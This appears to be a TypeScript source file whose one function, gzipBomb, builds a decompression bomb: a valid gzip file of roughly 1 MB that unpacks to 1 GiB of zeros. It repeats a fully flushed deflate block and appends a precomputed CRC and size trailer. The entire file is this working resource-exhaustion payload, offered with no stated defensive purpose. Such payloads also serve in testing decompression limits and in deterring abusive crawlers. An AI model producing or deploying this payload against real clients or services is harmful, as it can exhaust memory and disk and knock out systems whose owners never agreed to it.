import { constants, deflateRawSync } from 'node:zlib'

const MEGABYTE = 1_048_576
const TIMES = 1024
/** CRC-32 of 1 GiB of zeros, computed once: summing a gigabyte for each answer would be the only slow part. */
const CRC_OF_A_GIGABYTE_OF_ZEROS = 0x5b64c2b0

/** A whole, correct gzip file of about 1 MB that unpacks to 1 GiB of zeros. */
export function gzipBomb(): Buffer {
  // A full flush ends on a byte and forgets what came before, so that the same bytes may follow one another.
  const block = deflateRawSync(Buffer.alloc(MEGABYTE), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])
  const lastEmptyBlock = Buffer.from([3, 0])
  const trailer = Buffer.alloc(8)
  trailer.writeUInt32LE(CRC_OF_A_GIGABYTE_OF_ZEROS, 0)
  trailer.writeUInt32LE((MEGABYTE * TIMES) % 2 ** 32, 4)
  return Buffer.concat([header, ...Array.from({ length: TIMES }, () => block), lastEmptyBlock, trailer])
}
